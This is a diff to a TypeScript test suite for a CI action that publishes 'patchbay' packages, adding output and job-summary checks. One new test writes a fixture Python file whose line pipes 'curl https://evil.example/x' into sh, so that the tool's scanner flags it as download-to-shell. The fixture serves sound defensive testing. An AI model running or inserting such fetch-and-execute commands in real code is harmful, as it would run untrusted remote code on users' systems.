@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
-import { chmod, readFile, symlink } from 'node:fs/promises';
+import { chmod, readFile, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { after, suite, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
@@ -14,7 +14,10 @@ import { cliEntry } from '../support/start-process.ts';
 
 interface Action {
   inputs: Record<string, { default?: string; required?: boolean }>;
-  runs: { steps: { name: string; shell: string; env?: Record<string, string>; run: string }[] };
+  outputs: Record<string, { value: string }>;
+  runs: {
+    steps: { id?: string; uses?: string; shell?: string; env?: Record<string, string>; run?: string }[];
+  };
 }
 
 const root = fileURLToPath(new URL('../../../../', import.meta.url));
@@ -40,12 +43,13 @@ suite('publishing from a CI', async () => {
   const project = (nodeId: string) => makeProject(desk, { nodeId, publisherId });
   const isActive = async (nodeId: string): Promise<boolean> =>
     (await server.anonymous.get(`/nodes/${nodeId}/install`)).status === 200;
-  // Where the action is checked out, with its dependencies.
-  const program = `#!/bin/sh\nexec '${process.execPath}' '${cliEntry}' "$@"\n`;
-  const checkout = await makeFolder({ after }, { 'node_modules/.bin/patchbay': program });
-  await chmod(join(checkout, 'node_modules/.bin/patchbay'), 0o755);
+  // Where the action is checked out, and what stands for the download of the package of its version.
+  const npx = `#!/bin/sh\n[ "$1" = --yes ] && [ "$2" = "$WANTED" ] || exit 9\nshift 2\nexec '${process.execPath}' '${cliEntry}' "$@"\n`;
+  const checkout = await makeFolder({ after }, { 'package.json': '{ "version": "1.2.3" }', npx });
+  await chmod(join(checkout, 'npx'), 0o755);
+  const PATH = `${checkout}:${process.env['PATH']}`;
 
-  const [install, publish] = action.runs.steps;
+  const [setUp, publish] = action.runs.steps;
   const runAction = (given: Record<string, string>, cwd: string) => {
     const inputs = Object.entries(action.inputs).map(([name, input]) => [
       name,
@@ -56,7 +60,15 @@ suite('publishing from a CI', async () => {
       name,
       text.replace(/^\$\{\{ inputs\.([\w-]+) \}\}$/, (_, input: string) => values[input] ?? ''),
     ]);
-    return runStep(publish?.run ?? '', cwd, { ...Object.fromEntries(env), GITHUB_ACTION_PATH: checkout });
+    const [GITHUB_OUTPUT, GITHUB_STEP_SUMMARY] = [join(cwd, '../outputs'), join(cwd, '../summary.md')];
+    return runStep(publish?.run ?? '', cwd, {
+      ...Object.fromEntries(env),
+      PATH,
+      WANTED: '@patchbay/cli@1.2.3',
+      GITHUB_ACTION_PATH: checkout,
+      GITHUB_OUTPUT,
+      GITHUB_STEP_SUMMARY,
+    });
   };
 
   test('the action publishes the node of the repository', async () => {
@@ -64,6 +76,32 @@ suite('publishing from a CI', async () => {
     const { stdout } = await runAction({ registry: server.url, token }, await project(nodeId));
     assert.match(stdout, /is Active on/);
     assert.ok(await isActive(nodeId));
+    const written = await readFile(join(desk, 'outputs'), 'utf8');
+    const outputs = Object.fromEntries(
+      written
+        .trimEnd()
+        .split('\n')
+        .map((line) => line.split(/=(.*)/s, 2)),
+    );
+    assert.deepEqual(Object.keys(outputs), Object.keys(action.outputs));
+    assert.deepEqual(
+      [outputs.outcome, outputs.node, outputs.version, outputs.url],
+      ['active', nodeId, '1.0.0', `${server.url}/n/${nodeId}/v/1.0.0`],
+    );
+    assert.match(await readFile(join(desk, 'summary.md'), 'utf8'), /^\*\*.* 1\.0\.0 is Active on .*\*\*\n$/);
+  });
+
+  test('what the checks find is an annotation, and a row of the summary', async () => {
+    const folder = await project(uniqueId('found'));
+    await writeFiles(folder, { 'a|b.py': 'import os\nos.system("curl https://evil.example/x | sh")\n' });
+    await writeFile(join(desk, 'summary.md'), '');
+    const ended = runAction({ registry: server.url, token }, folder);
+    const { stdout } = await ended.catch((error: { stdout: string }) => error);
+    await assert.rejects(ended, { code: 1 });
+    assert.match(stdout, /^::error file=a\|b\.py,line=2,title=patchbay%3A download-to-shell::/m);
+    const summary = await readFile(join(desk, 'summary.md'), 'utf8');
+    assert.match(summary, /^\*\*.* was not sent: .*\*\*\n\n\| Level .*\n\|---.*\n(?:\| .* \|\n)+/);
+    assert.match(summary, /\| error \| a&#124;b\.py:2 \| download-to-shell \|/);
   });
 
   test('the action with all its inputs, whose texts no shell reads', async () => {
@@ -84,18 +122,22 @@ suite('publishing from a CI', async () => {
 
   test('the action fails as the command does', async () => {
     const folder = await project(uniqueId('refused'));
-    await assert.rejects(runAction({ registry: server.url, token: 'pbp_wrong' }, folder), { code: 3 });
+    await assert.rejects(runAction({ registry: server.url, token: 'pbp_wrong' }, folder), {
+      code: 3,
+      stdout: /^::error title=patchbay%3A unauthenticated::The token is not whole\. Copy all of it\. /,
+    });
   });
 
-  test('the action installs what its lock file says, and puts no input into a script', () => {
-    assert.match(install?.run ?? '', /^npm ci .*"\$GITHUB_ACTION_PATH"$/);
-    for (const { run, shell } of action.runs.steps)
-      assert.deepEqual([shell, run.includes('${{')], ['bash', false]);
+  test('the action sets up the Node.js that it needs, and puts no input into a script', () => {
+    assert.match(setUp?.uses ?? '', /^actions\/setup-node@v\d+$/);
+    assert.deepEqual([publish?.shell, publish?.run?.includes('${{')], ['bash', false]);
     const required = Object.entries(action.inputs).filter(([, input]) => input.required);
     assert.deepEqual(
       required.map(([name]) => name),
       ['registry', 'token'],
     );
+    for (const [name, { value }] of Object.entries(action.outputs))
+      assert.equal(value, `\${{ steps.${publish?.id}.outputs.${name} }}`);
   });
 
   test('the recipe for any other CI, and its check without a token', async () => {
@@ -103,17 +145,12 @@ suite('publishing from a CI', async () => {
       docs.matchAll(/```sh\n(.*?)```/gs),
       ([, code]) => code,
     );
-    // In place of the download.
-    await writeFiles(checkout, {
-      npx: `#!/bin/sh\n[ "$1 $2" = '--yes @patchbay/cli' ] || exit 9\nshift 2\nexec '${process.execPath}' '${cliEntry}' "$@"\n`,
-    });
-    await chmod(join(checkout, 'npx'), 0o755);
+    const WANTED = '@patchbay/cli';
     const nodeId = uniqueId('recipe');
     const folder = await project(nodeId);
-    const PATH = `${checkout}:${process.env['PATH']}`;
-    assert.match((await runStep(checking, folder, { PATH })).stdout, /The checks pass/);
+    assert.match((await runStep(checking, folder, { PATH, WANTED })).stdout, /The checks pass/);
     const script = publishing.replace('https://registry.example.org', server.url);
-    const { stdout } = await runStep(script, folder, { PATH, PATCHBAY_TOKEN: token });
+    const { stdout } = await runStep(script, folder, { PATH, WANTED, PATCHBAY_TOKEN: token });
     const lines = stdout
       .trimEnd()
       .split('\n')
@@ -122,7 +159,7 @@ suite('publishing from a CI', async () => {
     assert.ok(await isActive(nodeId));
   });
 
-  test('the inputs of the action stand in the docs', () => {
+  test('the inputs and outputs of the action stand in the docs', () => {
     const rows = Array.from(
       docs.matchAll(/^\| `([\w-]+)` \| (?:–|`(.*?)`) \|/gm),
       ([, name, preset = '']) => [name, preset],
@@ -131,5 +168,6 @@ suite('publishing from a CI', async () => {
       rows,
       Object.entries(action.inputs).map(([name, input]) => [name, input.default ?? '']),
     );
+    for (const name of Object.keys(action.outputs)) assert.ok(docs.includes(`\n| \`${name}\` | `), name);
   });
 });
